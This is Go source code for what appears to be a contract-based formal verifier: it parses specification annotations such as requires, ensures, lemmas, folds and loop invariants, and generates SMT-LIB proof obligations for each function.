	Fresh           bool // result is freshly allocated (shorthand)
	Pure            bool
	Assumes         []Clause // assumed at entry but NOT required from callers (listed as assumptions)
	Received        []Clause // assumed of every value received from a channel ($v)
	Restricted      string   // restricted <reason>: the pre-conditions cut off part of the function; return sites proved unreachable are accepted as long as one return is reachable
	DeadReturns     []int    // dead return <n>: the n-th return statement (source order) must be unreachable for every input
	Dead            []string // dead after <callee>: return sites behind a call of this callee must be unreachable under the pre-conditions
	Inline          bool
	Uses            []string
	Missing         bool
	Premises        []Clause // post-conditions assumed by callers but not proved (cryptographic premises), listed as assumptions
	Nonlinear       bool
	AssumeFrame     string
	Fn              *ssa.Function
}

type LemmaUse struct {
	At   string // "entry", "loop N", "call X"
	Name string
	Args []Expr
	Src  string
}

// Fold: a spec-level fold over an index range, e.g. the product of the E values of a list of events.
//
//	fold name(params..., i) := <element expression in i> op mul|add
//
// name(args..., lo, hi) denotes op over i in [lo, hi) of the element expression evaluated in the current state.
type Fold struct {
	Pkg    string
	Name   string
	Params []string // last one is the index variable
	Elem   Expr
	Op     string
	Mod    Expr // modulus of a mulmod fold
	Init   Expr // value of the empty fold (default: 1 for mul, 0 for add)
	Keys   bool // mapfold: the last parameter ranges over the keys of a map
	Src    string
}

type Pred struct {
	Pkg    string
	Name   string
	Params []string
	Body   Expr
	Src    string
}

type Axiom struct {
	Pkg   string
	Name  string
	Src   string
	E     Expr
	Vars  []string
	Lemma bool // lemma name(vars): expr - proved as an obligation of its own (over fresh constants) in every function that applies it
}

// Apply: apply at <callee>[#n] lemma(args) - the instance of a (proved) lemma for these argument values becomes a fact
// before the matching call
type Apply struct {
	Callee string
	Nth    int
	Lemma  string
	Args   []Expr
	Src    string
}

type ContractSet struct {
	Funcs    map[string]*Contract // key: pkgpath + "::" + Key
	Preds    map[string]*Pred     // by name (global)
	Impl     map[string][]string  // interface (pkgpath.Name) -> implementer type strings
	Axioms   []*Axiom
	Uninterp map[string]int      // declared spec functions: name -> arity (Int...->Int); "name?" -> Bool
	Globals  map[string][]Clause // package path -> global invariants assumed at function entry
	Folds    map[string]*Fold
}

var reClauseHead = regexp.MustCompile(`^(requires|ensures|mustfail|assume|premise|received)(\[[A-Z0-9, ]+\])?\s+(?:([A-Za-z0-9_\-]+):\s+)?(.*)$`)

func splitProps(s string) []string {
	s = strings.Trim(s, "[]")
	var out []string
	for _, f := range strings.FieldsFunc(s, func(r rune) bool { return r == ',' || r == ' ' }) {
		out = append(out, f)
	}
	return out
}

func parseModList(s string) ([]ModLoc, error) {
	s = strings.TrimSpace(s)
	if s == "nothing" || s == "" {
		return nil, nil
	}
	// split on top-level commas
	var parts []string
	depth := 0
	cur := ""
	for _, c := range s {
		switch c {
		case '(', '[':
			depth++
		case ')', ']':
			depth--
		}
		if c == ',' && depth == 0 {
			parts = append(parts, cur)
			cur = ""
			continue
		}
		cur += string(c)
	}
	parts = append(parts, cur)
	var out []ModLoc
	for _, p := range parts {
		p = strings.TrimSpace(p)
		e, err := ParseSpec(p)
		if err != nil {
			return nil, err
		}
		out = append(out, ModLoc{Src: p, E: e})
	}
	return out, nil
}

func LoadContracts(cs *ContractSet, pkgPath, file string) error {
	data, err := os.ReadFile(file)
	if err != nil {
		return err
	}
	lines := strings.Split(string(data), "\n")
	// gather logical lines
	type ll struct {
		s    string
		line int
	}
	var logical []ll
	kw := regexp.MustCompile(`^(func|property|safety|requires|ensures|mustfail|assume|modifies|loop|trusted|assert|pred|implementers|axiom|lemma|fresh|pure|declare|inline|nopanic|uses|global|assumeframe|nonlinear|premise|fold|mapfold|ghost|received|dead|restricted|apply)\b`)
	for i, l := range lines {
		t := strings.TrimSpace(l)
		if !strings.HasPrefix(t, "//@") {
			continue
		}
		body := strings.TrimSpace(strings.TrimPrefix(t, "//@"))
		if body == "" || strings.HasPrefix(body, "#") {
			continue
		}
		if kw.MatchString(body) || len(logical) == 0 {
			logical = append(logical, ll{body, i + 1})
		} else {
			logical[len(logical)-1].s += " " + body
		}
	}
	var cur *Contract
	for _, l := range logical {
		s := l.s
		fail := func(err error) error {
			return fmt.Errorf("%s:%d: %v", file, l.line, err)
		}
		word := s
		rest := ""
		if i := strings.IndexAny(s, " \t"); i >= 0 {
			word = s[:i]
			rest = strings.TrimSpace(s[i+1:])
		}
		// a clause may carry its own property tags: ensures[C11] label: ...
		if j := strings.Index(word, "["); j > 0 && strings.HasSuffix(word, "]") {
			word = word[:j]
		}
		switch word {
		case "func":
			cur = &Contract{Pkg: pkgPath, Key: rest, File: file, Line: l.line, LoopInv: map[int][]Clause{}, LoopMod: map[int][]ModLoc{}, NoPanic: true}
			k := pkgPath + "::" + rest
			if _, dup := cs.Funcs[k]; dup {
				return fail(fmt.Errorf("duplicate contract for %s", rest))
			}
			cs.Funcs[k] = cur
		case "pred":
			// pred name(a,b) := expr
			m := regexp.MustCompile(`^([A-Za-z0-9_]+)\(([^)]*)\)\s*:=\s*(.*)$`).FindStringSubmatch(rest)
			if m == nil {
				return fail(fmt.Errorf("bad pred"))
			}
			e, err := ParseSpec(m[3])
			if err != nil {
				return fail(err)
			}
			var ps []string
			for _, p := range strings.Split(m[2], ",") {
				p = strings.TrimSpace(p)
				if p != "" {
					ps = append(ps, p)
				}
			}
			cs.Preds[m[1]] = &Pred{Pkg: pkgPath, Name: m[1], Params: ps, Body: e, Src: m[3]}
		case "declare":
			// declare name/arity [bool]
			f := strings.Fields(rest)
			for _, d := range f {
				parts := strings.Split(d, "/")
				if len(parts) != 2 {
					return fail(fmt.Errorf("bad declare %q", d))
				}
				n, _ := strconv.Atoi(strings.TrimSuffix(parts[1], "b"))
				name := parts[0]
				if strings.HasSuffix(parts[1], "b") {
					name += "?"
				}
				cs.Uninterp[name] = n
			}
		case "axiom", "lemma":
			// axiom name(vars): expr      (assumed, listed)
			// lemma name(vars): expr      (proved over fresh constants wherever it is applied)
			m := regexp.MustCompile(`^([A-Za-z0-9_\-]+)\(([^)]*)\):\s*(.*)$`).FindStringSubmatch(rest)
			if m == nil {
				return fail(fmt.Errorf("bad axiom"))
			}
			e, err := ParseSpec(m[3])
			if err != nil {
				return fail(err)
			}
			var vs []string
			for _, p := range strings.Split(m[2], ",") {
				p = strings.TrimSpace(p)
				if p != "" {
					vs = append(vs, p)
				}
			}
			cs.Axioms = append(cs.Axioms, &Axiom{Pkg: pkgPath, Name: m[1], Src: m[3], E: e, Vars: vs, Lemma: word == "lemma"})
		case "fold", "mapfold":
			// fold name(params, i) := elem op mul|add|mulmod m [from init]
			// mapfold name(params, k) := elem op mul|add [from init]   (product / sum over the keys of a map)
			m := regexp.MustCompile(`^([A-Za-z0-9_]+)\(([^)]*)\)\s*:=\s*(.*?)\s+op\s+(mul|add|mulmod)\b(.*)$`).FindStringSubmatch(rest)
			if m == nil {
				return fail(fmt.Errorf("bad fold"))
			}
			e, err := ParseSpec(m[3])
			if err != nil {
				return fail(err)
			}
			tail, from := strings.TrimSpace(m[5]), ""
			if strings.HasPrefix(tail, "from ") {
				tail, from = "", strings.TrimSpace(tail[5:])
			} else if k := strings.LastIndex(tail, " from "); k >= 0 {
				tail, from = strings.TrimSpace(tail[:k]), strings.TrimSpace(tail[k+6:])
			}
			var modE, initE Expr
			if m[4] == "mulmod" {
				modE, err = ParseSpec(tail)
				if err != nil {
					return fail(err)
				}
			} else if tail != "" {
				return fail(fmt.Errorf("bad fold: unexpected %q", tail))
			}
			if from != "" {
				initE, err = ParseSpec(from)
				if err != nil {
					return fail(err)
				}
			}
			var ps []string
			for _, p := range strings.Split(m[2], ",") {
				ps = append(ps, strings.TrimSpace(p))
			}
			cs.Folds[m[1]] = &Fold{Pkg: pkgPath, Name: m[1], Params: ps, Elem: e, Op: m[4], Mod: modE, Init: initE, Keys: word == "mapfold", Src: rest}
		case "global":
			e, err := ParseSpec(rest)
			if err != nil {
				return fail(err)
			}
			cs.Globals[pkgPath] = append(cs.Globals[pkgPath], Clause{Label: fmt.Sprintf("g%d", len(cs.Globals[pkgPath])), Src: rest, E: e, Line: l.line})
		case "implementers":
			// implementers Proof: *ProofD, *ProofU
			i := strings.Index(rest, ":")
			if i < 0 {
				return fail(fmt.Errorf("bad implementers"))
			}
			iface := strings.TrimSpace(rest[:i])
			var ts []string
			for _, t := range strings.Split(rest[i+1:], ",") {
				ts = append(ts, strings.TrimSpace(t))
			}
			cs.Impl[pkgPath+"."+iface] = ts
		default:
			if cur == nil {
				return fail(fmt.Errorf("clause outside func: %s", s))
			}
			switch word {
			case "property":
				cur.Props = strings.Fields(rest)
			case "safety":
				cur.Safety = strings.Fields(rest)
			case "trusted":
				cur.Trusted = rest
				if rest == "" {
					cur.Trusted = "(no reason given)"
				}
			case "fresh":
				cur.Fresh = true
			case "pure":
				cur.Pure = true
			case "nonlinear":
				cur.Nonlinear = true
			case "assumeframe":
				cur.AssumeFrame = rest
				if rest == "" {
					cur.AssumeFrame = "(no reason given)"
				}
			case "inline":
				cur.Inline = true
			case "uses":
				cur.Uses = append(cur.Uses, strings.Fields(rest)...)
			case "nopanic":
				cur.NoPanic = rest != "off"
			case "restricted":
				cur.Restricted = rest
				if cur.Restricted == "" {
					cur.Restricted = "restricted by its pre-conditions"
				}
			case "dead":
				// dead after <callee>   |   dead return <n>  (the n-th return statement in source order, from 1)
				f := strings.Fields(rest)
				if len(f) == 2 && f[0] == "return" {
					n, err := strconv.Atoi(f[1])
					if err != nil || n < 1 {
						return fail(fmt.Errorf("bad dead clause"))
					}
					cur.DeadReturns = append(cur.DeadReturns, n)
					break
				}
				if len(f) != 2 || f[0] != "after" {
					return fail(fmt.Errorf("bad dead clause"))
				}
				cur.Dead = append(cur.Dead, f[1])
			case "modifies":
				ml, err := parseModList(rest)
				if err != nil {
					return fail(err)
				}
				cur.Modifies = append(cur.Modifies, ml...)
				cur.ModGiven = true
			case "requires", "ensures", "mustfail", "assume", "premise", "received":
				m := reClauseHead.FindStringSubmatch(s)
				if m == nil {
					return fail(fmt.Errorf("bad clause"))
				}
				e, err := ParseSpec(m[4])
				if err != nil {
					return fail(err)
				}
				cl := Clause{Label: m[3], Props: splitProps(m[2]), Src: m[4], E: e, Line: l.line}
				switch word {
				case "requires":
					if cl.Label == "" {
						cl.Label = fmt.Sprintf("r%d", len(cur.Requires))
					}
					cur.Requires = append(cur.Requires, cl)
				case "ensures":
					if cl.Label == "" {
						cl.Label = fmt.Sprintf("e%d", len(cur.Ensures))
					}
					cur.Ensures = append(cur.Ensures, cl)
				case "mustfail":
					if cl.Label == "" {
						cl.Label = fmt.Sprintf("m%d", len(cur.MustFail))
					}
					cur.MustFail = append(cur.MustFail, cl)
				case "premise":
					if cl.Label == "" {
						cl.Label = fmt.Sprintf("p%d", len(cur.Premises))
					}
					cur.Premises = append(cur.Premises, cl)
				case "assume":
					if cl.Label == "" {
						cl.Label = fmt.Sprintf("a%d", len(cur.Assumes))
					}
					cur.Assumes = append(cur.Assumes, cl)
				case "received":
					// received [label:] expr over $v: assumed of every value this function receives from a channel
					if cl.Label == "" {
						cl.Label = fmt.Sprintf("v%d", len(cur.Received))
					}
					cur.Received = append(cur.Received, cl)
				}
			case "loop":
				// loop N invariant [label:] expr   |  loop N modifies list
				f := strings.Fields(rest)
				if len(f) < 3 {
					return fail(fmt.Errorf("bad loop clause"))
				}
				n, err := strconv.Atoi(f[0])
				if err != nil {
					return fail(err)
				}
				body := strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(strings.TrimPrefix(rest, f[0])), f[1]))
				switch f[1] {
				case "invariant":
					label := ""
					if m := regexp.MustCompile(`^([A-Za-z0-9_\-]+):\s+(.*)$`).FindStringSubmatch(body); m != nil {
						label = m[1]
						body = m[2]
					}
					e, err := ParseSpec(body)
					if err != nil {
						return fail(err)
					}
					if label == "" {
						label = fmt.Sprintf("i%d", len(cur.LoopInv[n]))
					}
					cur.LoopInv[n] = append(cur.LoopInv[n], Clause{Label: label, Src: body, E: e, Line: l.line})
				case "modifies":
					ml, err := parseModList(body)
					if err != nil {
						return fail(err)
					}
					cur.LoopMod[n] = append(cur.LoopMod[n], ml...)
				case "assumeframe":
					// loop N assumeframe <reason>: the declared frame of this loop is assumed (listed), not checked at its writes
					if cur.LoopAssumeFrame == nil {
						cur.LoopAssumeFrame = map[int]string{}
					}
					cur.LoopAssumeFrame[n] = body
				default:
					return fail(fmt.Errorf("bad loop clause kind %q", f[1]))
				}
			case "assert":
				// assert at <callee>[#n] [label:] expr
				m := regexp.MustCompile(`^at\s+(\S+?)(?:#(\d+))?\s+([A-Za-z0-9_\-]+):\s+(.*)$`).FindStringSubmatch(rest)
				if m == nil {
					return fail(fmt.Errorf("bad assert"))
				}
				e, err := ParseSpec(m[4])
				if err != nil {
					return fail(err)
				}
				n := -1
				if m[2] != "" {
					n, _ = strconv.Atoi(m[2])
				}
				cur.Asserts = append(cur.Asserts, CallAssert{Callee: m[1], Nth: n, Cl: Clause{Label: m[3], Src: m[4], E: e, Line: l.line}})
			case "apply":
				// apply at <callee>[#n] lemma(args)
				m := regexp.MustCompile(`^at\s+(\S+?)(?:\[#(\d+)\])?\s+([A-Za-z0-9_]+\(.*\))\s*$`).FindStringSubmatch(rest)
				if m == nil {
					return fail(fmt.Errorf("bad apply"))
				}
				e, err := ParseSpec(m[3])
				if err != nil {
					return fail(err)
				}
				ce, ok := e.(*ECall)
				if !ok {
					return fail(fmt.Errorf("bad apply"))
				}
				an := -1
				if m[2] != "" {
					an, _ = strconv.Atoi(m[2])
				}
				cur.Applies = append(cur.Applies, Apply{Callee: m[1], Nth: an, Lemma: ce.Fn, Args: ce.Args, Src: m[3]})
			case "ghost":
				// ghost at <callee> name: expr  - records the value of expr (over the call's arguments $0.. and
				// its result $r / $r0, $r1) in a ghost variable after every matching call; read with ghost(name)
				m := regexp.MustCompile(`^at\s+(\S+?)(?:\[#(\d+)\])?\s+([A-Za-z0-9_]+):\s+(.*)$`).FindStringSubmatch(rest)
				if m == nil {
					return fail(fmt.Errorf("bad ghost"))
				}
				e, err := ParseSpec(m[4])
				if err != nil {
					return fail(err)
				}
				gn := -1
				if m[2] != "" {
					gn, _ = strconv.Atoi(m[2])
				}
				cur.Ghosts = append(cur.Ghosts, CallAssert{Callee: m[1], Nth: gn, Cl: Clause{Label: m[3], Src: m[4], E: e, Line: l.line}})
			default:
				return fail(fmt.Errorf("unknown clause %q", word))
			}
		}
	}
	return nil
}

func NewContractSet() *ContractSet {
	return &ContractSet{Funcs: map[string]*Contract{}, Preds: map[string]*Pred{}, Impl: map[string][]string{}, Uninterp: map[string]int{}, Globals: map[string][]Clause{}, Folds: map[string]*Fold{}}
}
