package main

import (
	"fmt"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func (e *Engine) newFnCtx(fn *ssa.Function, c *Contract) *FnCtx {
	fc := &FnCtx{eng: e, fn: fn, contract: c, declSet: map[string]bool{}, varSort: map[string]string{}, nameCnt: map[string]int{},
		assumptions: map[string]bool{}, trusted: map[string]bool{}, closures: map[string]*ssa.MakeClosure{}, boxed: map[string]Val{},
		iters: map[string]*ssa.Range{}, knownLen: map[string]int64{}, knownBig: map[string]string{}, nonlinear: c.Nonlinear, pendingAxioms: map[string]*Axiom{}}
	fc.regVar(hAlloc, "Int")
	fc.regVar(hBV, arrSort("Int"))
	fc.init = &State{vars: map[string]string{}}
	return fc
}

// VerifyFunction generates all obligations of one function under contract.
func (e *Engine) VerifyFunction(fn *ssa.Function, c *Contract) *FnCtx {
	fc := e.newFnCtx(fn, c)
	defer func() {
		if r := recover(); r != nil {
			fc.unsupported("engine panic: %v", r)
		}
	}()
	fr := &Frame{fc: fc, fn: fn, env: map[ssa.Value]Val{}, reach: map[int]string{}, exit: map[int]*State{}, edgeCnd: map[edgeKey]string{},
		contract: c, propsList: c.Props, params: map[string]Val{}}
	st := &State{vars: map[string]string{}}
	fr.pre = st.clone()
	// the initial allocation counter is non-negative
	fc.addFact("true", sApp(">=", fc.get(st, hAlloc), "0"))
	for i, p := range fn.Params {
		v := fr.havocVal(p.Type(), "p_"+p.Name())
		fr.env[p] = v
		fr.params[p.Name()] = v
		fr.params[fmt.Sprintf("$%d", i)] = v
		fc.addFact("true", fr.typeFacts(v, st))
	}
	for _, fv := range fn.FreeVars {
		fr.env[fv] = fr.havocVal(fv.Type(), "fv_"+fv.Name())
	}
	// axioms in use
	for _, name := range c.Uses {
		found := false
		for _, ax := range e.cs.Axioms {
			if ax.Name == name {
				found = true
				env := fr.specEnv(st, st, nil, nil)
				env.vars = map[string]Val{}
				var binders []string
				for _, v := range ax.Vars {
					bn := "ax_" + v
					binders = append(binders, fmt.Sprintf("(%s Int)", bn))
					env = env.withBound(v, Val{S: bn, Typ: tInt})
				}
				for _, pk := range e.pkgs {
					if pk.PkgPath == ax.Pkg {
						env.pkg = pk.Types
					}
				}
				body := fr.evalBool(ax.E, env)
				if len(binders) > 0 {
					body = fmt.Sprintf("(forall (%s) %s)", strings.Join(binders, " "), body)
				}
				fc.addFact("true", body)
				fc.trusted["axiom "+ax.Name+": "+ax.Src] = true
			}
		}
		if !found {
			fc.unsupported("unknown axiom %s", name)
		}
	}
	for _, rq := range c.Requires {
		env := fr.specEnv(st, st, nil, nil)
		t, qs := fr.evalFact(rq.E, env)
		fc.addFactQ("true", t, qs)
	}
	for _, g := range e.cs.Globals[fn.Pkg.Pkg.Path()] {
		env := fr.specEnv(st, st, nil, nil)
		t, qs := fr.evalFact(g.E, env)
		fc.addFactQ("true", t, qs)
		fc.assumptions[fmt.Sprintf("package %s: global invariant assumed at entry (package-level variables keep their initialised values): %s", fn.Pkg.Pkg.Name(), g.Src)] = true
	}
	for _, as := range c.Assumes {
		env := fr.specEnv(st, st, nil, nil)
		t, qs := fr.evalFact(as.E, env)
		fc.addFactQ("true", t, qs)
		fc.assumptions[fmt.Sprintf("%s assumes (not required from callers): %s", shortFn(fn), as.Src)] = true
	}
	if c.AssumeFrame != "" {
		fc.assumptions[fmt.Sprintf("%s: modifies clause assumed, not proved: %s", shortFn(fn), c.AssumeFrame)] = true
	}
	fc.nReqFacts = len(fc.facts)
	if c.Trusted != "" {
		return fc
	}
	fr.run(st, "true")
	// post-conditions per return site
	for ri, r := range fr.rets {
		renv := map[string]Val{}
		for k, v := range fr.params {
			renv[k] = v
		}
		var res Val
		nres := fn.Signature.Results().Len()
		if nres == 1 {
			res = r.vals[0]
		} else if nres > 1 {
			res = Val{IsAg: true, Agg: r.vals}
		}
		fr.bindResults(renv, fn, res)
		for _, en := range c.Ensures {
			env := &SpecEnv{fr: fr, vars: renv, now: r.st, old: fr.pre, pkg: fn.Pkg.Pkg}
			t, sks := fr.evalGoal(en.E, env)
			// do not let one post-condition help the next: build obligation without the assume-after-assert
			fc.obligeSplit("post", en.Label, r.guard, t, r.pos, fr.propsFor(en.Props), false, sks)
		}
		for _, mf := range c.MustFail {
			env := &SpecEnv{fr: fr, vars: renv, now: r.st, old: fr.pre, pkg: fn.Pkg.Pkg}
			t := fr.evalBool(mf.E, env)
			o := fc.oblige("canary", mf.Label, r.guard, t, r.pos, fr.propsFor(mf.Props))
			if o != nil {
				o.MustFail = true
				fc.facts = fc.facts[:len(fc.facts)-1]
			}
		}
		if c.ModGiven && c.AssumeFrame == "" {
			fr.frameObligations(ri, r)
		}
		// cover: the return site is reachable
		o := &Obligation{Name: fmt.Sprintf("cover:return#%d", ri+1), Kind: "cover", Func: fc.fnName(), Guard: r.guard, Goal: "false", NFacts: len(fc.facts), fc: fc, Props: c.Props, Cover: true}
		fc.obls = append(fc.obls, o)
	}
	if len(fr.rets) == 0 {
		fc.unsupported("function has no return site")
	}
	return fc
}

// frame obligations: everything not listed in modifies is unchanged for objects that existed at entry
func (fr *Frame) frameObligations(ri int, r retSite) {
	fc := fr.fc
	c := fr.contract
	// collect allowed rows per heap var
	allowed := map[string][]string{}
	whole := map[string]bool{}
	for _, m := range c.Modifies {
		env := &SpecEnv{fr: fr, vars: fr.params, now: fr.pre, old: fr.pre, pkg: fr.fn.Pkg.Pkg}
		for _, t := range fr.modTargets(m, env) {
			if t.kind == "whole" {
				whole[t.heap] = true
			} else {
				allowed[t.heap] = append(allowed[t.heap], t.row)
			}
		}
	}
	var names []string
	for k := range r.st.vars {
		names = append(names, k)
	}
	sort.Strings(names)
	a0 := fc.get(fr.pre, hAlloc)
	for _, v := range names {
		if v == hAlloc || v == hIter || whole[v] {
			continue
		}
		cur := r.st.vars[v]
		init := fc.get(fr.pre, v)
		if cur == init {
			continue
		}
		sortS := fc.sortOfVar(v)
		var goal string
		if strings.HasPrefix(sortS, "(Array") {
			sk := fc.freshConst("sk_frame", "Int")
			conds := []string{sApp("isold", sk, a0)}
			for _, row := range allowed[v] {
				conds = append(conds, sNot(sEq(sk, row)))
			}
			fc.noteRead(cur, sk)
			goal = sImp(sAnd(conds...), sEq(sSel(cur, sk), sSel(init, sk)))
		} else {
			goal = sEq(cur, init)
		}
		o := fc.oblige("frame", shortHeap(v), r.guard, goal, r.pos, fr.propsList)
		if o != nil {
			fc.facts = fc.facts[:len(fc.facts)-1]
		}
	}
}

func shortHeap(v string) string {
	v = strings.ReplaceAll(v, "github.com/privacybydesign/gabi/", "")
	v = strings.ReplaceAll(v, "github.com/privacybydesign/", "")
	return v
}

// BuildQuery renders the SMT-LIB text of one obligation.
func (o *Obligation) BuildQuery(withModel bool, lite bool) string {
	fc := o.fc
	var sb strings.Builder
	sb.WriteString(prelude)
	for _, d := range fc.decls {
		sb.WriteString(d)
		sb.WriteString("\n")
	}
	if !lite {
		for _, d := range fc.closedDecls {
			sb.WriteString(d)
			sb.WriteString("\n")
		}
	}
	// ground terms at which quantified hypotheses are instantiated by the generator itself
	var cands []string
	cs := map[string]bool{}
	addc := func(t string) {
		if !cs[t] {
			cs[t] = true
			cands = append(cands, t)
		}
	}
	for _, sk := range o.Skolems {
		addc(sk)
		addc(sApp("-", sk, "1"))
		addc(sApp("+", sk, "1"))
	}
	for _, c := range fc.cands[:o.NCands] {
		addc(c)
	}
	addc("0")
	for _, f := range fc.facts[:o.NFacts] {
		if lite && (f.Class == "closed" || f.Class == "frameq") {
			continue
		}
		for _, q := range f.Quants {
			for _, c := range cands {
				inst := strings.Replace(f.Term, q.Forall, q.instantiate(c, cands, 1), 1)
				if f.Guard == "true" {
					fmt.Fprintf(&sb, "(assert %s)\n", inst)
				} else {
					fmt.Fprintf(&sb, "(assert (=> %s %s))\n", f.Guard, inst)
				}
			}
		}
		if f.Guard == "true" {
			fmt.Fprintf(&sb, "(assert %s)\n", f.Term)
		} else {
			fmt.Fprintf(&sb, "(assert (=> %s %s))\n", f.Guard, f.Term)
		}
	}
	fmt.Fprintf(&sb, "; obligation %s / %s\n", o.Func, o.Name)
	fmt.Fprintf(&sb, "(assert %s)\n", o.Guard)
	fmt.Fprintf(&sb, "(assert (not %s))\n", o.Goal)
	sb.WriteString("(check-sat)\n")
	if withModel {
		sb.WriteString("(get-model)\n")
	}
	return sb.String()
}

var _ = types.Typ
