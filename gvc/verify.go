package main

import (
	"fmt"
	"go/types"
	"regexp"
	"runtime/debug"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func (e *Engine) newFnCtx(fn *ssa.Function, c *Contract) *FnCtx {
	fc := &FnCtx{stampFloor: -1, eng: e, fn: fn, contract: c, declSet: map[string]bool{}, varSort: map[string]string{}, nameCnt: map[string]int{},
		assumptions: map[string]bool{}, trusted: map[string]bool{}, closures: map[string]*ssa.MakeClosure{}, boxed: map[string]Val{},
		iters: map[string]*ssa.Range{}, knownLen: map[string]int64{}, knownBig: map[string]string{}, nonlinear: c.Nonlinear, pendingAxioms: map[string]*Axiom{}}
	fc.regVar(hAlloc, "Int")
	fc.regVar(hBV, arrSort("Int"))
	fc.init = &State{vars: map[string]string{}}
	return fc
}

// VerifyFunction generates all obligations of one function under contract.
func (e *Engine) VerifyFunction(fn *ssa.Function, c *Contract) (res *FnCtx) {
	fc := e.newFnCtx(fn, c)
	defer func() {
		if r := recover(); r != nil {
			// reported as an unsupported construct: the function's obligations do not count as discharged
			st := debug.Stack()
			if len(st) > 2500 {
				st = st[:2500]
			}
			fc.unsupported("engine panic: %v\n%s", r, st)
			res = fc
		}
	}()
	fr := &Frame{fc: fc, fn: fn, env: map[ssa.Value]Val{}, reach: map[int]string{}, exit: map[int]*State{}, edgeCnd: map[edgeKey]string{},
		contract: c, propsList: c.Props, params: map[string]Val{}}
	st := &State{vars: map[string]string{}}
	fr.pre = st.clone()
	// the initial allocation counter is non-negative
	fc.addFact("true", sApp(">=", fc.get(st, hAlloc), "0"))
	for i, p := range fn.Params {
		v := fr.havocVal(p.Type(), "p_"+p.Name())
		fr.env[p] = v
		fr.params[p.Name()] = v
		fr.params[fmt.Sprintf("$%d", i)] = v
		fc.addFact("true", fr.typeFacts(v, st))
	}
	for _, fv := range fn.FreeVars {
		fr.env[fv] = fr.havocVal(fv.Type(), "fv_"+fv.Name())
	}
	// axioms in use
	for _, name := range c.Uses {
		found := false
		for _, ax := range e.cs.Axioms {
			if ax.Name == name {
				found = true
				env := fr.specEnv(st, st, nil, nil)
				env.vars = map[string]Val{}
				var binders []string
				for vi, v := range ax.Vars {
					// the bound-variable naming convention keeps side facts of terms over these variables out
					bn := fmt.Sprintf("qv%dx_ax_%s", 900000+vi, v)
					binders = append(binders, fmt.Sprintf("(%s Int)", bn))
					env = env.withBound(v, Val{S: bn, Typ: tInt})
				}
				for _, pk := range e.pkgs {
					if pk.PkgPath == ax.Pkg {
						env.pkg = pk.Types
					}
				}
				body := fr.evalBool(ax.E, env)
				if len(binders) > 0 {
					body = fmt.Sprintf("(forall (%s) %s)", strings.Join(binders, " "), body)
				}
				fc.addFact("true", body)
				fc.trusted["axiom "+ax.Name+": "+ax.Src] = true
			}
		}
		if !found {
			fc.unsupported("unknown axiom %s", name)
		}
	}
	for _, rq := range c.Requires {
		env := fr.specEnv(st, st, nil, nil)
		t, qs := fr.evalFact(rq.E, env)
		fc.addFactQ("true", t, qs)
	}
	for _, g := range e.cs.Globals[fn.Pkg.Pkg.Path()] {
		env := fr.specEnv(st, st, nil, nil)
		t, qs := fr.evalFact(g.E, env)
		fc.addFactQ("true", t, qs)
		fc.assumptions[fmt.Sprintf("package %s: global invariant assumed at entry (package-level variables keep their initialised values): %s", fn.Pkg.Pkg.Name(), g.Src)] = true
	}
	for _, as := range c.Assumes {
		env := fr.specEnv(st, st, nil, nil)
		t, qs := fr.evalFact(as.E, env)
		fc.addFactQ("true", t, qs)
		fc.assumptions[fmt.Sprintf("%s assumes (not required from callers): %s", shortFn(fn), as.Src)] = true
	}
	if c.AssumeFrame != "" {
		fc.assumptions[fmt.Sprintf("%s: modifies clause assumed, not proved: %s", shortFn(fn), c.AssumeFrame)] = true
	}
	fc.nReqFacts = len(fc.facts)
	if c.Trusted != "" {
		return fc
	}
	// lemmas applied in this function: each is proved once, over fresh constants and without any fact of the function
	provedLemma := map[string]bool{}
	for _, ap := range c.Applies {
		if provedLemma[ap.Lemma] {
			continue
		}
		provedLemma[ap.Lemma] = true
		ax := e.lemmaByName(ap.Lemma)
		if ax == nil {
			if e.axiomByName(ap.Lemma) == nil {
				fc.unsupported("apply: unknown lemma %s", ap.Lemma)
			}
			continue
		}
		env := fr.specEnv(st, st, nil, nil)
		env.vars = map[string]Val{}
		for _, v := range ax.Vars {
			env = env.withBound(v, Val{S: fc.freshConst("lem_"+ax.Name+"_"+v, "Int"), Typ: tInt})
		}
		for _, pk := range e.pkgs {
			if pk.PkgPath == ax.Pkg {
				env.pkg = pk.Types
			}
		}
		body := fr.evalBool(ax.E, env)
		if o := fc.oblige("lemma", ax.Name, "true", body, fn.Pos(), c.Props); o != nil {
			o.NFacts = 0
			fc.facts = fc.facts[:len(fc.facts)-1]
		}
	}
	fr.run(st, "true")
	// post-conditions per return site
	for ri, r := range fr.rets {
		fc.curBlock = r.blk
		renv := map[string]Val{}
		for k, v := range fr.params {
			renv[k] = v
		}
		var res Val
		nres := fn.Signature.Results().Len()
		if nres == 1 {
			res = r.vals[0]
		} else if nres > 1 {
			res = Val{IsAg: true, Agg: r.vals}
		}
		fr.bindResults(renv, fn, res)
		for _, en := range c.Ensures {
			env := &SpecEnv{fr: fr, vars: renv, now: r.st, old: fr.pre, pkg: fn.Pkg.Pkg}
			t, sks := fr.evalGoal(en.E, env)
			// do not let one post-condition help the next: build obligation without the assume-after-assert
			fc.obligeSplit("post", en.Label, r.guard, t, r.pos, fr.propsFor(en.Props), false, sks)
		}
		for _, mf := range c.MustFail {
			env := &SpecEnv{fr: fr, vars: renv, now: r.st, old: fr.pre, pkg: fn.Pkg.Pkg}
			t := fr.evalBool(mf.E, env)
			o := fc.oblige("canary", mf.Label, r.guard, t, r.pos, fr.propsFor(mf.Props))
			if o != nil {
				o.MustFail = true
				fc.facts = fc.facts[:len(fc.facts)-1]
			}
		}
		if c.ModGiven && c.AssumeFrame == "" {
			fr.frameObligations(ri, r)
		}
		// cover: the return site is reachable - unless the contract declares the code after a certain call dead under
		// its (restricting) pre-conditions; then the return site must be proved unreachable instead
		if fr.deadReturn(c, r.blk) || fr.deadReturnOrdinal(c, r) {
			if o := fc.oblige("dead", fmt.Sprintf("return#%d", ri+1), r.guard, "false", r.pos, c.Props); o != nil {
				fc.facts = fc.facts[:len(fc.facts)-1]
			}
			continue
		}
		o := &Obligation{Name: fmt.Sprintf("cover:return#%d", ri+1), Kind: "cover", Func: fc.fnName(), Guard: r.guard, Goal: "false", NFacts: len(fc.facts), fc: fc, Props: c.Props, Cover: true, Block: r.blk, Restricted: c.Restricted != ""}
		fc.obls = append(fc.obls, o)
	}
	if len(fr.rets) == 0 {
		fc.unsupported("function has no return site")
	}
	return fc
}

